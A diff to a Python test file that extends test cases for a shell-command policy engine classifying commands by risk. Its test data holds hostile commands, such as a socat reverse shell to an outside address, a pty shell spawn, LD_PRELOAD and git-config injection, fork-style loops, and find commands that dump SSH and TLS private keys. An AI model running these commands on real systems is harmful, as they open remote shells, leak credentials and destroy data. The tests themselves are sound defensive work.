@@ -5,7 +5,14 @@ backups and the files data lives in (database files, dumps, VM images) emptied, 
 or deleted; name resolution and package sources rewritten (`/etc/hosts`,
 `resolv.conf`, apt sources) and the SSH server's host keys replaced; credentials that
 live in application configs, cloud service-account key files and raw memory (swap,
-`/proc/kcore`, core dumps). Counter-cases show the everyday form of each still runs.
+`/proc/kcore`, core dumps); loader and git settings given through the environment
+(`LD_PRELOAD` from outside the system library folders, `GIT_CONFIG_PARAMETERS`);
+interpreters that start a bare shell (a pty or socket drives it) or `eval` built code;
+endless loops that start a background job each time round; `coproc` and
+`parallel ::: CMD...`; `find -exec` judged on the files under its start folders (`{}`);
+and changes to running processes and live sessions (priority, SQL server functions,
+redis clients and cluster roles, the journal's files, units' failed state).
+Counter-cases show the everyday form of each still runs.
 """
 
 from __future__ import annotations
@@ -52,6 +59,46 @@ ENGINE = PolicyEngine(Config())
         ("cat /srv/app/package.json", "none"),
         ("ls -l /etc/gcp/", "none"),
         ("swapon --show", "none"),
+        # loader and git settings given through the environment
+        ("LD_PRELOAD=/dev/shm/.cache/libx.so uptime", "typed"),
+        ("env LD_AUDIT=./audit.so date", "typed"),
+        ("LD_LIBRARY_PATH=/var/tmp/l df -h", "typed"),
+        ("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-cli ping", "action"),
+        ("GIT_CONFIG_PARAMETERS=\"'core.sshCommand'='sh -c id'\" git fetch", "typed"),
+        ("GIT_CONFIG_PARAMETERS=\"'color.ui'='always'\" git log -3", "none"),
+        # shells that take their commands from somewhere the review cannot see
+        ("python3 -c 'import pty,os; os.dup2(3,0); pty.spawn(\"/bin/bash\")'", "typed"),
+        ("ruby -e 'exec \"/bin/sh -i\"'", "typed"),
+        ("perl -e 'eval unpack(\"u\", q{...})'", "typed"),
+        ("perl -e 'eval $ENV{CODE}'", "typed"),
+        ("perl -e 'print eval { 2 + 2 }'", "none"),
+        ("python3 -c 'import subprocess; subprocess.run([\"uptime\"])'", "action"),
+        # endless loops that start a background job each time round
+        ("while true; do ( yes > /dev/null ) & done", "deny"),
+        ("until false; do sleep 60 & done", "deny"),
+        ("while true; do curl -s localhost:8080/health; sleep 5; done", "none"),
+        ("for i in 1 2 3; do gzip log.$i & done; wait", "action"),
+        # commands hidden behind coproc and parallel's argument lists
+        ("coproc socat TCP:198.51.100.9:443 EXEC:/bin/bash", "deny"),
+        ("coproc tail -f /var/log/syslog", "none"),
+        ("parallel -j2 ::: 'rm -rf /opt/shop' 'uptime'", "typed"),
+        ("parallel ::: 'df -h' 'free -m'", "none"),
+        # find -exec acts on the files under its start folders
+        ("find /root/.ssh -type f -exec tail -n +1 {} +", "typed"),
+        ("find /etc/letsencrypt/live -name privkey.pem -exec sh -c 'cat {}' \\;", "typed"),
+        ("find /srv/backups -mtime +7 -exec perl -e 'unlink @ARGV' {} +", "typed"),
+        ("find /etc -name '*.conf' -exec grep -l listen {} +", "none"),
+        ("find /tmp -name 'sess_*' -exec rm {} +", "action"),
+        # acting on running processes and live sessions is a change, not a read
+        ("renice -n 5 -p 3112", "action"),
+        ("ionice -c3 -p 4412", "action"),
+        ("psql -c 'SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE state = 1'", "action"),
+        ("psql -c 'select count(*) from pg_stat_activity'", "none"),
+        ("redis-cli CLIENT KILL ADDR 10.0.0.5:51234", "action"),
+        ("redis-cli CLIENT LIST", "none"),
+        ("redis-cli -c CLUSTER FAILOVER FORCE", "typed"),
+        ("journalctl --rotate", "action"),
+        ("systemctl reset-failed app-worker@3", "action"),
     ],
 )
 def test_each_class_is_judged_by_what_it_does(cmd: str, expected: str) -> None:
